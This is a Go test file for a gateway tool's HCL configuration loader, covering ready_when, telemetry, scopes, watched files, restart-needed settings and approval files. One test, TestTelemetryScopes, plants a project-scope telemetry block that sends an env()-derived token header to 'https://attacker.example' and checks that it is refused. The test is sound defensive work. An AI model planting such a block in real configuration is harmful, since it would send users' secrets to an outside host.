package config

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/hashicorp/hcl/v2"
)

// diagsAt lists "line:col: summary: detail" for each diagnostic, failing
// the test for one without a range in file.
func diagsAt(t *testing.T, file string, diags hcl.Diagnostics) string {
	t.Helper()
	var got []string
	for _, d := range diags {
		if d.Subject == nil || d.Subject.Filename != file {
			t.Errorf("diagnostic not in %s: %s", file, d.Error())
			continue
		}
		got = append(got, fmt.Sprintf("%d:%d: %s: %s", d.Subject.Start.Line, d.Subject.Start.Column, d.Summary, d.Detail))
	}
	return strings.Join(got, "\n")
}

// TestReadyWhen: ready_when is one of all, any, none (any by default);
// anything else is an error at its value that lists what is allowed.
func TestReadyWhen(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		src  string
		want string
		err  string
	}{
		{``, ReadyAny, ""},
		{`settings { connect_timeout = "5s" }`, ReadyAny, ""},
		{`settings { ready_when = "all" }`, ReadyAll, ""},
		{`settings { ready_when = "any" }`, ReadyAny, ""},
		{`settings { ready_when = "none" }`, ReadyNone, ""},
		{`settings { ready_when = "most" }`, "", `1:25: Invalid ready_when: ready_when must be one of all, any, none, got "most"`},
		{`settings { ready_when = true }`, "", `1:25: Invalid ready_when: ready_when must be one of all, any, none, got "true"`},
		{`settings { ready_when = ["all"] }`, "", `1:25: Unsuitable value type`},
		{`settings { ready_whn = "all" }`, "", `1:12: Unsupported argument: An argument named "ready_whn" is not expected here. Did you mean "ready_when"?`},
	} {
		t.Run(tc.src, func(t *testing.T) {
			t.Parallel()
			tr := newTree(t)
			path := tr.write(filepath.Join(tr.root, "c.hcl"), tc.src)
			cfg, diags := tr.load(path)
			if tc.err != "" {
				if got := diagsAt(t, path, diags); !diags.HasErrors() || !strings.Contains(got, tc.err) {
					t.Fatalf("want an error %q; got:\n%s", tc.err, got)
				}
				return
			}
			if diags.HasErrors() {
				t.Fatal(diags)
			}
			if cfg.Settings.ReadyWhen != tc.want {
				t.Errorf("ReadyWhen = %q, want %q", cfg.Settings.ReadyWhen, tc.want)
			}
		})
	}
}

// TestReadyWhenScopes: the highest scope that sets ready_when wins; a
// project's is ignored with a warning, like the gateway's other settings.
func TestReadyWhenScopes(t *testing.T) {
	t.Parallel()
	tr := newTree(t)
	tr.user(`settings { ready_when = "none" }`)
	tr.local(`settings { ready_when = "all" }`)
	proj := tr.proj(`settings {
  ready_when = "none"
}`)
	cfg, diags := tr.load()
	if diags.HasErrors() {
		t.Fatal(diags)
	}
	if cfg.Settings.ReadyWhen != ReadyAll {
		t.Errorf("ReadyWhen = %q, want the local scope's %q", cfg.Settings.ReadyWhen, ReadyAll)
	}
	if got := diagsAt(t, proj, diags); !strings.Contains(got, "2:3: Ignored in project scope: ready_when is only honoured in the user, local, cli and managed scopes") {
		t.Errorf("no project warning; got:\n%s", got)
	}
}

// TestTelemetryBlock: a telemetry block's values, its defaults, and every
// mistake reported at its file:line:col.
func TestTelemetryBlock(t *testing.T) {
	t.Parallel()
	defaults := Telemetry{ServiceName: "mcphost", OTLPProtocol: OTLPHTTPProtobuf, Traces: true, Metrics: true, SampleRatio: 1}
	for _, tc := range []struct {
		name, src string
		want      *Telemetry // Origin not compared
		err       string
	}{
		{name: "none", src: ``},
		{name: "empty block", src: `telemetry {}`, want: &defaults},
		{name: "everything", src: `telemetry {
  service_name  = "gw-eu"
  otlp_endpoint = "https://otel.corp.example:4318"
  otlp_protocol = "http/protobuf"
  otlp_headers  = { authorization = "Bearer ${env("TOKEN")}" }
  traces        = false
  metrics       = true
  prometheus    = true
  sample_ratio  = 0.25
}`, want: &Telemetry{ServiceName: "gw-eu", OTLPEndpoint: "https://otel.corp.example:4318", OTLPProtocol: OTLPHTTPProtobuf,
			OTLPHeaders: map[string]string{"authorization": "Bearer s3cret"}, Metrics: true, Prometheus: true, SampleRatio: 0.25}},
		{name: "grpc", src: `telemetry {
  otlp_protocol = "grpc"
  otlp_endpoint = "127.0.0.1:4317"
}`, want: &Telemetry{ServiceName: "mcphost", OTLPEndpoint: "127.0.0.1:4317", OTLPProtocol: OTLPGRPC, Traces: true, Metrics: true, SampleRatio: 1}},
		{name: "sample none", src: `telemetry { sample_ratio = 0 }`,
			want: &Telemetry{ServiceName: "mcphost", OTLPProtocol: OTLPHTTPProtobuf, Traces: true, Metrics: true}},
		{name: "bad protocol", src: `telemetry { otlp_protocol = "http/json" }`,
			err: `1:29: Invalid otlp_protocol: otlp_protocol must be one of http/protobuf, grpc, got "http/json".`},
		{name: "ratio above 1", src: `telemetry { sample_ratio = 1.5 }`, err: `1:28: Invalid sample_ratio`},
		{name: "ratio below 0", src: `telemetry { sample_ratio = -0.1 }`, err: `1:28: Invalid sample_ratio`},
		{name: "host:port for http", src: `telemetry { otlp_endpoint = "127.0.0.1:4318" }`, err: `1:29: Invalid otlp_endpoint: For the http/protobuf protocol`},
		{name: "grpc scheme", src: "telemetry {\n  otlp_protocol = \"grpc\"\n  otlp_endpoint = \"http://127.0.0.1:4317\"\n}", err: `3:19: Invalid otlp_endpoint: For the grpc protocol otlp_endpoint is host:port`},
		{name: "grpc without port", src: "telemetry {\n  otlp_protocol = \"grpc\"\n  otlp_endpoint = \"collector\"\n}", err: `3:19: Invalid otlp_endpoint`},
		{name: "ftp", src: `telemetry { otlp_endpoint = "ftp://otel.example" }`, err: `1:29: Invalid otlp_endpoint`},
		{name: "credentials in url", src: `telemetry { otlp_endpoint = "https://u:p@otel.example" }`, err: `1:29: Invalid otlp_endpoint: credentials in the url are not allowed; use otlp_headers.`},
		{name: "bad header", src: `telemetry { otlp_headers = { "bad header" = "x" } }`, err: `1:28: Invalid header name`},
		{name: "empty service name", src: `telemetry { service_name = "" }`, err: `1:28: Invalid service_name`},
		{name: "wrong type", src: `telemetry { traces = "yes" }`, err: `1:22: Unsuitable value type`},
		{name: "unset env", src: `telemetry { otlp_headers = { a = env("NOPE") } }`, err: `1:39: Invalid function argument`},
		{name: "typo", src: `telemetry { sample_rate = 1 }`, err: `1:13: Unsupported argument: An argument named "sample_rate" is not expected here. Did you mean "sample_ratio"? Allowed here: service_name, otlp_endpoint, otlp_protocol, otlp_headers, traces, metrics, prometheus, sample_ratio.`},
		{name: "two blocks", src: "telemetry {}\ntelemetry {}", err: `2:1: Duplicate telemetry block`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			tr := newTree(t)
			path := tr.write(filepath.Join(tr.root, "c.hcl"), tc.src)
			cfg, diags := tr.load(path)
			if tc.err != "" {
				if got := diagsAt(t, path, diags); !diags.HasErrors() || !strings.Contains(got, tc.err) {
					t.Fatalf("want an error %q; got:\n%s", tc.err, got)
				}
				return
			}
			if diags.HasErrors() {
				t.Fatal(diags)
			}
			got := cfg.Telemetry
			if got != nil {
				if got.Origin.Scope != ScopeCLI || got.Origin.File != path || got.Origin.Range.Start.Line != 1 {
					t.Errorf("origin = %+v", got.Origin)
				}
				c := *got
				c.Origin = Origin{}
				got = &c
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

// TestTelemetryScopes: the highest scope's block wins whole; a project's
// is refused with a warning, and not evaluated (it cannot read the
// environment).
func TestTelemetryScopes(t *testing.T) {
	t.Parallel()
	tr := newTree(t)
	tr.user(`telemetry {
  otlp_endpoint = "https://user.example"
  prometheus    = true
}`)
	tr.local(`telemetry { otlp_endpoint = "https://local.example" }`)
	proj := tr.proj(`telemetry {
  otlp_endpoint = "https://attacker.example"
  otlp_headers  = { token = env("NOPE") }
}`)
	cfg, diags := tr.load()
	if diags.HasErrors() {
		t.Fatal(diags)
	}
	if tel := cfg.Telemetry; tel == nil || tel.OTLPEndpoint != "https://local.example" || tel.Prometheus || tel.Origin.Scope != ScopeLocal {
		t.Errorf("telemetry = %+v, want the local block whole", tel)
	}
	if got := diagsAt(t, proj, diags); !strings.Contains(got, "1:1: Ignored in project scope: A telemetry block is only honoured in the user, local, cli and managed scopes") {
		t.Errorf("no project warning; got:\n%s", got)
	}

	tr = newTree(t)
	tr.proj(`telemetry { otlp_endpoint = "https://attacker.example" }`)
	if cfg := tr.mustLoad(); cfg.Telemetry != nil {
		t.Errorf("a project's telemetry block is in effect: %+v", cfg.Telemetry)
	}
}

// TestWatch: Watch lists every file of every scope whether it exists or
// not, where plugins and secrets come from, absolute and once each; with
// --config files, those instead of the discovered scopes.
func TestWatch(t *testing.T) {
	t.Parallel()
	tr := newTree(t)
	cfgDir := filepath.Join(tr.home, ".config", "mcphost")
	user := tr.user(`settings { plugin_lock = "locks/plugins.lock.hcl" }`)
	proj := tr.proj(stdio("p", "p"))
	cfg := tr.mustLoad()
	want := []string{
		user,
		filepath.Join(tr.home, "src", ProjectFileName), // the walk up stops below the home directory
		proj,
		filepath.Join(tr.project, "sub", ProjectFileName),
		filepath.Join(cfgDir, "projects", LocalFileName(tr.project)),
		tr.env[EnvManagedConfig],
		filepath.Join(cfgDir, "locks", "plugins.lock.hcl"),
		filepath.Join(cfgDir, "plugins"),
		filepath.Join(cfgDir, SecretsDirName),
		filepath.Join(tr.project, "sub", ".git"),
		filepath.Join(tr.project, ".git"),
	}
	if diff := cmp.Diff(want, cfg.Watch); diff != "" {
		t.Errorf("Watch (-want +got):\n%s", diff)
	}
	for _, p := range cfg.Watch {
		if !filepath.IsAbs(p) {
			t.Errorf("%s is not absolute", p)
		}
	}

	// A project file created where Watch says makes a difference.
	tr.write(filepath.Join(tr.home, "src", ProjectFileName), stdio("q", "q"))
	if got := summary(tr.mustLoad()); !slices.Contains(got, "q:project:unapproved") {
		t.Errorf("servers = %v: the new project file was not read", got)
	}

	one := tr.write(filepath.Join(tr.root, "one.hcl"), "")
	tr.write(filepath.Join(tr.project, "sub", "rel.hcl"), "")
	cfg = tr.mustLoad(one, "rel.hcl")
	want = []string{
		one,
		filepath.Join(tr.project, "sub", "rel.hcl"), // relative to the working directory
		tr.env[EnvManagedConfig],
		filepath.Join(cfgDir, "plugins.lock.hcl"),
		filepath.Join(cfgDir, "plugins"),
		filepath.Join(cfgDir, SecretsDirName),
	}
	if diff := cmp.Diff(want, cfg.Watch); diff != "" {
		t.Errorf("Watch with --config files (-want +got):\n%s", diff)
	}
}

// TestRestartNeeded: the settings a running process cannot apply are
// named when they change, each alone; the others are not.
func TestRestartNeeded(t *testing.T) {
	t.Parallel()
	base := Settings{
		ConnectTimeout: DefaultConnectTimeout, ConcurrencyLocal: 3, ConcurrencyRemote: 20,
		SessionIdleTimeout: time.Minute, MaxSessions: 10, DrainTimeout: time.Second, Naming: NamingPrefixed, ReadyWhen: ReadyAny,
	}
	for _, tc := range []struct {
		name   string
		change func(*Settings)
		want   []string
	}{
		{"nothing", func(*Settings) {}, nil},
		{"connect_concurrency_local", func(s *Settings) { s.ConcurrencyLocal = 4 }, []string{"connect_concurrency_local"}},
		{"connect_concurrency_remote", func(s *Settings) { s.ConcurrencyRemote = 4 }, []string{"connect_concurrency_remote"}},
		{"max_message_bytes", func(s *Settings) { s.MaxMessageBytes = 4096 }, []string{"max_message_bytes"}},
		{"max_concurrent_calls", func(s *Settings) { s.MaxConcurrentCalls = 2 }, []string{"max_concurrent_calls"}},
		{"session_idle_timeout", func(s *Settings) { s.SessionIdleTimeout = time.Hour }, []string{"session_idle_timeout"}},
		{"max_sessions", func(s *Settings) { s.MaxSessions = 11 }, []string{"max_sessions"}},
		{"naming", func(s *Settings) { s.Naming = NamingBare }, []string{"naming"}},
		{"protocol_version", func(s *Settings) { s.ProtocolVersion = "2025-11-25" }, []string{"protocol_version"}},
		{"output_dir", func(s *Settings) { s.OutputDir = "/out" }, []string{"output_dir"}},
		{"plugin_dir", func(s *Settings) { s.PluginDir = "/plugins" }, []string{"plugin_dir"}},
		{"connect_timeout (live)", func(s *Settings) { s.ConnectTimeout = time.Second }, nil},
		{"tool_timeout (live)", func(s *Settings) { s.ToolTimeout = time.Second }, nil},
		{"max_tool_duration (live)", func(s *Settings) { s.MaxToolDuration = time.Second }, nil},
		{"drain_timeout (live)", func(s *Settings) { s.DrainTimeout = time.Hour }, nil},
		{"ready_when (live)", func(s *Settings) { s.ReadyWhen = ReadyAll }, nil},
		{"approvals (live)", func(s *Settings) {
			s.ApproveAllProjectServers = true
			s.ApprovedProjectServers = map[string]string{"p": "sha256:x"}
		}, nil},
		{"two", func(s *Settings) { s.Naming, s.MaxSessions = NamingBare, 1 }, []string{"max_sessions", "naming"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			old, cur := base, base
			tc.change(&cur)
			if diff := cmp.Diff(tc.want, cur.RestartNeeded(&old)); diff != "" {
				t.Errorf("RestartNeeded (-want +got):\n%s", diff)
			}
			// What a running process keeps: the restart-only settings as
			// they were, the others as changed.
			kept := cur.KeepRestartOnly(&old)
			if n := kept.RestartNeeded(&old); n != nil {
				t.Errorf("KeepRestartOnly kept changes of %v", n)
			}
			if tc.want == nil && !cmp.Equal(kept, cur) {
				t.Errorf("KeepRestartOnly undid a live change (-changed +kept):\n%s", cmp.Diff(cur, kept))
			}
		})
	}
}

// TestBlocksEqual: Equal compares what the gateway, audit and telemetry
// blocks configure, not where they are written.
func TestBlocksEqual(t *testing.T) {
	t.Parallel()
	gw := func(f func(*Gateway)) *Gateway {
		g := &Gateway{URL: "https://g.example/mcp", OAuth: &GatewayOAuth{Issuer: "https://i.example", Scopes: []string{"mcp"}},
			RateLimit: &RateLimit{PerPrincipal: "1/s"}, Origin: Origin{Scope: ScopeUser, File: "/a.hcl"}}
		f(g)
		return g
	}
	for _, tc := range []struct {
		name string
		a, b *Gateway
		want bool
	}{
		{"both nil", nil, nil, true},
		{"added", nil, gw(func(*Gateway) {}), false},
		{"removed", gw(func(*Gateway) {}), nil, false},
		{"same", gw(func(*Gateway) {}), gw(func(*Gateway) {}), true},
		{"moved", gw(func(*Gateway) {}), gw(func(g *Gateway) { g.Origin = Origin{Scope: ScopeManaged, File: "/b.hcl"} }), true},
		{"url", gw(func(*Gateway) {}), gw(func(g *Gateway) { g.URL = "https://h.example/mcp" }), false},
		{"oauth scopes", gw(func(*Gateway) {}), gw(func(g *Gateway) { g.OAuth.Scopes = []string{"mcp", "x"} }), false},
		{"oauth removed", gw(func(*Gateway) {}), gw(func(g *Gateway) { g.OAuth = nil }), false},
		{"rate", gw(func(*Gateway) {}), gw(func(g *Gateway) { g.RateLimit.Burst = 3 }), false},
	} {
		if got := tc.a.Equal(tc.b); got != tc.want {
			t.Errorf("gateway %s: Equal = %v, want %v", tc.name, got, tc.want)
		}
	}
	tel := &Telemetry{ServiceName: "a", OTLPHeaders: map[string]string{"k": "v"}, Origin: Origin{File: "/a"}}
	moved := *tel
	moved.Origin = Origin{File: "/b"}
	other := *tel
	other.OTLPHeaders = map[string]string{"k": "w"}
	if !tel.Equal(&moved) || tel.Equal(&other) || tel.Equal(nil) || !(*Telemetry)(nil).Equal(nil) {
		t.Error("Telemetry.Equal")
	}
	au := &Audit{Path: "/a", Origin: Origin{File: "/x"}}
	if !au.Equal(&Audit{Path: "/a"}) || au.Equal(&Audit{Path: "/b"}) || au.Equal(nil) {
		t.Error("Audit.Equal")
	}
}

// TestApprovals: WriteApprovals adds to the approvals a file has, keeping
// its comments and everything else; ReadApprovals reads them from the
// source alone (the rest of the file need not load).
func TestApprovals(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	path := filepath.Join(dir, "projects", "local.hcl")
	h := func(c string) string { return "sha256:" + strings.Repeat(c, 64) }

	if err := WriteApprovals(path, map[string]string{"a": h("a")}); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(path)
	must(t, err)
	if st, _ := os.Stat(path); st.Mode().Perm() != 0o600 {
		t.Errorf("mode %v, want 0600", st.Mode().Perm())
	}
	if want := "settings {\n  approved_project_servers = {\n    a = \"" + h("a") + "\"\n  }\n}\n"; string(b) != want {
		t.Errorf("new file:\n%s\nwant:\n%s", b, want)
	}

	// A file of the user's: comments, a server reading the environment, a
	// settings block with other settings and earlier approvals.
	src := `# my local settings
server "x" {
  command = env("NOT_SET_ANYWHERE") # never evaluated here
}

settings {
  # approvals below
  connect_timeout = "5s"
  approved_project_servers = {
    a = "` + h("a") + `"
    b = "` + h("b") + `"
  }
}
`
	must(t, os.WriteFile(path, []byte(src), 0o600))
	got, err := ReadApprovals(path, []byte(src))
	must(t, err)
	if diff := cmp.Diff(map[string]string{"a": h("a"), "b": h("b")}, got); diff != "" {
		t.Errorf("ReadApprovals (-want +got):\n%s", diff)
	}
	if err := WriteApprovals(path, map[string]string{"b": h("c"), "c": h("d")}); err != nil {
		t.Fatal(err)
	}
	b, err = os.ReadFile(path)
	must(t, err)
	for _, keep := range []string{"# my local settings", `command = env("NOT_SET_ANYWHERE") # never evaluated here`, "# approvals below", `connect_timeout = "5s"`} {
		if !strings.Contains(string(b), keep) {
			t.Errorf("lost %q:\n%s", keep, b)
		}
	}
	got, err = ReadApprovals(path, b)
	must(t, err)
	if diff := cmp.Diff(map[string]string{"a": h("a"), "b": h("c"), "c": h("d")}, got); diff != "" {
		t.Errorf("after WriteApprovals (-want +got):\n%s", diff)
	}

	for _, tc := range []struct{ src, err string }{
		{``, ""},
		{`settings { connect_timeout = "5s" }`, ""},
		{`settings { approved_project_servers = { a = env("X") } }`, "cannot read the approvals in"},
		{`settings { approved_project_servers = ["a"] }`, "cannot read the approvals in"},
		{`settings {`, "cannot read the approvals in"},
	} {
		got, err := ReadApprovals("f.hcl", []byte(tc.src))
		if tc.err == "" && (err != nil || got != nil) || tc.err != "" && (err == nil || !strings.Contains(err.Error(), tc.err)) {
			t.Errorf("ReadApprovals(%q) = %v, %v; want error %q", tc.src, got, err, tc.err)
		}
	}
}

// TestRenderTelemetry: config show prints the telemetry block in effect
// with where it comes from.
func TestRenderTelemetry(t *testing.T) {
	t.Parallel()
	tr := newTree(t)
	path := tr.write(filepath.Join(tr.root, "c.hcl"), `telemetry {
  otlp_protocol = "grpc"
  otlp_endpoint = "otel:4317"
  otlp_headers  = { authorization = "secret" }
  sample_ratio  = 0.5
}
`)
	out := string(Render(tr.mustLoad(path)))
	want := fmt.Sprintf(`# cli scope, %s:1
telemetry {
  service_name  = "mcphost"
  otlp_endpoint = "otel:4317"
  otlp_protocol = "grpc"
  otlp_headers = {
    authorization = "secret"
  }
  traces       = true
  metrics      = true
  prometheus   = false
  sample_ratio = 0.5
}
`, path)
	if !strings.Contains(out, want) {
		t.Errorf("Render:\n%s\nwant it to contain:\n%s", out, want)
	}
}

// TestRoots: settings { roots = [...] } lists file:// URIs, as strings or
// { uri, name } objects; each bad element is an error at its own range.
func TestRoots(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		src  string
		want string // the roots as uri[=name], space-separated
		err  string
	}{
		{``, "", ""},
		{`settings { roots = [] }`, "", ""},
		{`settings { roots = ["file:///src"] }`, "file:///src", ""},
		{`settings { roots = ["file:///src", { uri = "file:///home/me/work", name = "work" }] }`, "file:///src file:///home/me/work=work", ""},
		{`settings { roots = ["https://example.com/src"] }`, "", `1:21: Invalid root: "https://example.com/src" is not a file:// URI`},
		{`settings { roots = ["file:///a", "file:relative"] }`, "", `1:34: Invalid root: "file:relative" is not a file:// URI of an absolute local path`},
		{`settings { roots = ["file:///a", "file:///a"] }`, "", `1:34: Invalid root: file:///a is listed twice`},
		{`settings { roots = [{ name = "x" }] }`, "", `1:21: Invalid root: the root has no uri`},
		{`settings { roots = [{ uri = "file:///a", label = "x" }] }`, "", `1:21: Invalid root: unknown member "label"`},
		{`settings { roots = [42] }`, "", `1:21: Invalid root: a root must be a string or an object, got number`},
		{`settings { roots = "file:///src" }`, "", `1:20: Invalid roots: roots must be a list`},
	} {
		t.Run(tc.src, func(t *testing.T) {
			t.Parallel()
			tr := newTree(t)
			path := tr.write(filepath.Join(tr.root, "c.hcl"), tc.src)
			cfg, diags := tr.load(path)
			if tc.err != "" {
				if got := diagsAt(t, path, diags); !diags.HasErrors() || !strings.Contains(got, tc.err) {
					t.Fatalf("want an error %q; got:\n%s", tc.err, got)
				}
				return
			}
			if diags.HasErrors() {
				t.Fatal(diags)
			}
			var got []string
			for _, r := range cfg.Settings.Roots {
				s := r.URI
				if r.Name != "" {
					s += "=" + r.Name
				}
				got = append(got, s)
			}
			if strings.Join(got, " ") != tc.want {
				t.Errorf("roots %q, want %q", got, tc.want)
			}
		})
	}
}
